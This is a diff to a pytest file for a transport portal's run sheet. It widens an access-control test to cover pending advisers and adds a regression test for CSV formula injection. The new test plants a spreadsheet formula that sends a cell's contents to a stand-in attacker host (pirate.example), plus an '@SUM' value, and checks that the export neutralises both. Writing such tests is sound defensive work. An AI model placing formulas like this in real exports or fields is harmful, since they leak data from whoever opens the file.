@@ -13,7 +13,7 @@ from portal_app.db.models import AuditEvent, Trip
 from portal_app.domain import run_sheet, trips
 from portal_app.domain.errors import NotAllowed, NotFound, ValidationError
 
-from .advisers_support import enrol_adviser
+from .advisers_support import enrol_adviser, pending_adviser, relogin_adviser
 from .support import CLAIRE, PAUL, Member, account_of, all_rows, mails_to
 from .trips_support import (
     add_home,
@@ -23,7 +23,6 @@ from .trips_support import (
     open_transport,
     paris,
     relogin,
-    relogin_adviser,
     request,
     trip_rows,
 )
@@ -248,14 +247,14 @@ def test_an_unknown_status_or_trip_is_refused(adviser, day):
     assert status_of(day.lea_trip) == "planned"
 
 
-@pytest.mark.parametrize("who", ["member", "nobody"])
+@pytest.mark.parametrize("who", ["member", "pending adviser", "nobody"])
 def test_members_and_visitors_cannot_see_the_sheet_or_set_a_status(day, who):
-    token = day.claire.token if who == "member" else ""
+    actor = {"member": day.claire.token, "pending adviser": pending_adviser(), "nobody": None}[who]
     for call in (
-        lambda: run_sheet.run_sheet(token, DAY),
-        lambda: run_sheet.run_sheet_csv(token, DAY),
-        lambda: run_sheet.set_status(token, day.lea_trip, "confirmed"),
-        lambda: run_sheet.set_status(token, day.lea_trip, "cancelled"),
+        lambda: run_sheet.run_sheet(actor, DAY),
+        lambda: run_sheet.run_sheet_csv(actor, DAY),
+        lambda: run_sheet.set_status(actor, day.lea_trip, "confirmed"),
+        lambda: run_sheet.set_status(actor, day.lea_trip, "cancelled"),
     ):
         with pytest.raises(NotAllowed):
             call()
@@ -293,3 +292,15 @@ def test_a_member_changing_a_confirmed_trip_sends_it_back_to_planned(adviser, da
     assert status_of(day.lea_trip) == "planned"
     line = {line.trip_id: line for line in run_sheet.run_sheet(adviser.token, DAY)}[day.lea_trip]
     assert (line.pickup_time, line.status_label) == ("08:30", "planifié")
+
+
+def test_a_hostile_remark_reaches_the_spreadsheet_as_text(adviser, claire):
+    """Security review, finding 7: a member's remark must not run as a formula on the provider's computer."""
+    open_transport(adviser, CLAIRE)
+    home, school = add_home(claire, complement="@SUM(A1:A9)"), add_school(claire)
+    hostile = '=HYPERLINK("http://pirate.example/?d="&C2;"Détails")'
+    trips.book(claire.token, request(beneficiary_id(CLAIRE, "Léa"), home, school, DAY, notes=hostile))
+    text = run_sheet.run_sheet_csv(adviser.token, DAY).lstrip("\ufeff")
+    [row] = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
+    assert row[5] == "'" + hostile
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
